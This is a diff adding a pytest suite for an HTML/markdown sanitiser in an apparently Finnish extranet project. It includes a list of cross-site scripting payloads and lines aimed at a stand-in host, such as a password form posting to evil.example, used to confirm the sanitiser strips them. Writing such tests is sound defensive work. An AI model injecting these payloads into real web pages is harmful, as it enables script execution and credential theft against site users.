@@ -1,0 +1,98 @@
+"""Only clean HTML comes out, whatever went in."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from extranet.html import ATTRIBUTES, PROTOCOLS, TAGS, clean, from_markdown, mark, to_text
+
+pytestmark = pytest.mark.once
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox(1))",
+    "![x](https://tracker.example/pixel.png)",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
+    "<b onmouseover=alert(1)>x",
+    "<<script>script>alert(1)<</script>/script>",
+    "<!--><script>alert(1)</script>-->",
+    "<details open ontoggle=alert(1)>",
+    "`<script>alert(1)</script>`",
+    "<form action=//evil.example><input name=password></form>",
+    "<style>@import 'https://evil.example'</style>",
+    "<base href='https://evil.example/'>",
+]
+
+
+class _Reader(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, attrs))
+
+
+def _assert_clean(html: str) -> None:
+    reader = _Reader()
+    reader.feed(html)
+    for tag, attributes in reader.found:
+        assert tag in TAGS
+        for name, value in attributes:
+            assert name in [*ATTRIBUTES.get(tag, []), *ATTRIBUTES["*"]]
+            if name == "href" and re.match(r"[a-z][a-z0-9+.-]*:", (value or "").lower()):
+                assert (value or "").lower().split(":")[0] in PROTOCOLS
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_comes_out_harmless(text: str) -> None:
+    _assert_clean(from_markdown(text))
+    _assert_clean(clean(text))
+
+
+@given(st.text(alphabet="<>\"'&=/:;()[]!`*_- \nabjscriptonerdalv#1.", max_size=200))
+def test_no_text_at_all_gets_anything_else_through(text: str) -> None:
+    _assert_clean(from_markdown(text))
+    _assert_clean(clean(text))
+
+
+def test_markdown_becomes_what_people_expect() -> None:
+    html = from_markdown("**tärkeää** ja *kursiivi*\nuusi rivi\n\n- yksi\n- kaksi\n\n> lainaus\n\nhttps://example.org")
+    assert "<strong>tärkeää</strong>" in html
+    assert "<em>kursiivi</em>" in html
+    assert "<br>" in html
+    assert html.count("<li") == 2
+    assert "<blockquote" in html
+    assert 'href="https://example.org"' in html
+    assert "nofollow" in html
+
+
+def test_a_heading_has_no_place_in_the_outline_of_the_page() -> None:
+    assert from_markdown("# Otsikko") == '<p dir="auto"><strong>Otsikko</strong></p>\n'
+
+
+def test_every_block_finds_its_own_direction() -> None:
+    assert '<p dir="auto">' in from_markdown("مرحبا بكم")
+
+
+def test_an_address_is_no_picture() -> None:
+    assert "<img" not in from_markdown("![kuva](https://tracker.example/pixel.png)")
+
+
+def test_plain_words_for_letters_and_the_index() -> None:
+    assert to_text(from_markdown("**Hei** & terve\n\n- a\n- b")) == "Hei & terve a b"
+
+
+def test_marking_escapes_what_people_wrote() -> None:
+    assert mark([("<b>", False), ("työ", True)]) == "&lt;b&gt;<mark>työ</mark>"
